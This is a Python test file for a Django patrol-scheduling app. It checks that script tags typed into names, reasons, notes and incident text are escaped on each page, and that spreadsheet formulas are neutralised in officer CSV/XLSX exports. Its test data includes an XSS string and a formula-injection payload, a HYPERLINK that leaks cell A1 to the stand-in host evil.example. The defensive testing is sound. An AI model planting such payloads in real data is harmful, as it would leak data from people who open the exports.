"""Text people type (names, reasons, notes, report and incident text) that looks
like HTML is shown escaped on every page; text that looks like a spreadsheet
formula is neutralised in the officer export (CSV and XLSX)."""

import csv
import datetime as dt
import io

import openpyxl
import pytest
from django.urls import reverse

from imports.models import OfficerImport
from patrols import services as patrols
from precincts.models import Officer
from schedules.models import Shift
from schedules.services import requests as schedule_requests
from tests import factories
from tests.pages.conftest import NIGHT

SCRIPT = '<script>alert("giliran")</script>'
ESCAPED = "&lt;script&gt;alert(&quot;giliran&quot;)&lt;/script&gt;"


@pytest.fixture
def hostile(night, tambora, tanjungduren, piket_tambora):
    """Every kind of typed text, each carrying the same script tag."""
    officer = factories.OfficerFactory(precinct=tambora, name=f"Budi {SCRIPT}")
    shift = night[0]
    factories.AssignmentFactory(shift=shift, officer=officer)
    # A slot no precinct could take shows the generator's note on the board.
    Shift.objects.filter(pk=night[4].pk).update(
        precinct=None, status="uncovered", reason_note=f"manual {SCRIPT}"
    )
    schedule_requests.request_blackout(
        precinct=tambora,
        start=shift.start + dt.timedelta(days=2),
        end=shift.start + dt.timedelta(days=2, hours=1),
        reason=f"Apel {SCRIPT}",
        by=piket_tambora,
    )
    schedule_requests.request_swap(
        shift=night[3],
        to_precinct=tanjungduren,
        note=f"Tukar {SCRIPT}",
        by=piket_tambora,
    )
    past = factories.ShiftFactory(
        plan=shift.plan, precinct=tambora, night=NIGHT - dt.timedelta(days=1), slot=0
    )
    factories.AssignmentFactory(shift=past, officer=officer)
    report = patrols.submit_report(
        shift=past,
        by=piket_tambora,
        started_at=past.start,
        ended_at=past.end,
        present=[officer],
        summary=f"Aman {SCRIPT}",
        incidents=[
            {
                "category": "other",
                "occurred_at": past.start,
                "description": f"Kejadian {SCRIPT}",
            }
        ],
    )
    morning = patrols.build_morning_report(
        plan=shift.plan, night=NIGHT - dt.timedelta(days=1)
    )
    return {"shift": shift, "report": report, "morning": morning}


def _pages(hostile):
    plan = hostile["shift"].plan_id
    return [
        reverse("tonight"),
        reverse("schedules:requests"),
        reverse("schedules:print", args=[plan]),
        reverse("patrols:report", args=[hostile["report"].pk]),
        reverse("patrols:morning_report", args=[hostile["morning"].pk]),
    ]


def test_typed_text_that_looks_like_html_is_shown_escaped(
    client, hostile, kapolres_jakbar
):
    client.force_login(kapolres_jakbar)
    for url in _pages(hostile):
        response = client.get(url)
        assert response.status_code == 200, url
        page = response.content.decode()

        assert SCRIPT not in page, url
        assert ESCAPED in page, url


def test_each_kind_of_typed_text_reaches_a_page_escaped(
    client, hostile, kapolres_jakbar
):
    """Not only the officer's name: reason, notes, report and incident text too."""
    client.force_login(kapolres_jakbar)
    pages = "".join(client.get(url).content.decode() for url in _pages(hostile))

    for words in ("Budi", "manual", "Apel", "Tukar", "Aman", "Kejadian"):
        assert f"{words} {ESCAPED}" in pages, words


def test_the_copy_as_text_night_is_plain_text_the_browser_must_not_sniff(
    client, hostile, kapolres_jakbar
):
    client.force_login(kapolres_jakbar)
    plan = hostile["shift"].plan_id

    response = client.get(reverse("schedules:night_text", args=[plan]))

    assert response["Content-Type"].startswith("text/plain")
    assert response["X-Content-Type-Options"] == "nosniff"


def test_the_roster_page_shows_an_officer_name_escaped(client, hostile, piket_tambora):
    client.force_login(piket_tambora)

    page = client.get(reverse("schedules:shift", args=[hostile["shift"].pk]))

    assert page.status_code == 200
    assert SCRIPT not in page.content.decode()
    assert f"Budi {ESCAPED}" in page.content.decode()


# --- the officer export ---------------------------------------------------------------

FORMULAE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"klik")',
    "==HYPERLINK(1)",
    "+62 812 0000",
    "-2+3",
    "@SUM(A1:A2)",
    "\tTAB",
    "\rCR",
]
EXPORT_FIELDS = ("nrp", "name", "rank", "precinct", "unit", "phone", "active")


def _export(client, file_format: str) -> bytes:
    response = client.post(
        "/admin/precincts/officer/export/",
        {
            "format": file_format,
            "resource": "0",
            **{f"officerresource_{field}": "on" for field in EXPORT_FIELDS},
        },
    )
    assert response.status_code == 200
    return response.content


@pytest.fixture
def formula_officers(tambora):
    for i, text in enumerate(FORMULAE):
        Officer.objects.create(
            nrp=f"8200000{i}",
            name=text,
            phone="+62 812 0000",
            rank="bripda",
            precinct=tambora,
        )


def test_the_csv_export_neutralises_every_formula_start(
    client, admin_user, formula_officers
):
    client.force_login(admin_user)
    rows = list(csv.DictReader(io.StringIO(_export(client, "0").decode())))

    cells = {row["nrp"]: (row["name"], row["phone"]) for row in rows}
    for i, text in enumerate(FORMULAE):
        assert cells[f"8200000{i}"] == ("'" + text, "'+62 812 0000")


def test_the_xlsx_export_holds_formulae_as_text(client, admin_user, formula_officers):
    client.force_login(admin_user)
    book = openpyxl.load_workbook(io.BytesIO(_export(client, "1")))
    sheet = book.active
    header = [cell.value for cell in sheet[1]]
    rows = {
        row[header.index("nrp")].value: row[header.index("name")]
        for row in sheet.iter_rows(min_row=2)
    }

    for i, text in enumerate(FORMULAE):
        cell = rows[f"8200000{i}"]
        assert cell.data_type == "s"
        # openpyxl reads a lone CR back as a line feed: still text, still inert.
        assert cell.value == "'" + text.replace("\r", "\n")


def test_an_exported_file_imports_back_unchanged(
    client, admin_user, formula_officers, django_capture_on_commit_callbacks
):
    """The ' a neutralised cell gained on export is dropped again on import."""
    client.force_login(admin_user)
    exported = _export(client, "0")
    Officer.objects.all().delete()

    upload = io.BytesIO(exported)
    upload.name = "officers.csv"
    with django_capture_on_commit_callbacks(execute=True):
        client.post("/admin/imports/officerimport/add/", {"import_file": upload})
    job = OfficerImport.objects.get()
    with django_capture_on_commit_callbacks(execute=True):
        client.post(f"/admin/imports/officerimport/{job.pk}/confirm/")

    rows = {
        nrp: (name, phone)
        for nrp, name, phone in Officer.objects.values_list("nrp", "name", "phone")
    }
    assert rows == {
        f"8200000{i}": (text.strip(), "+62 812 0000") for i, text in enumerate(FORMULAE)
    }
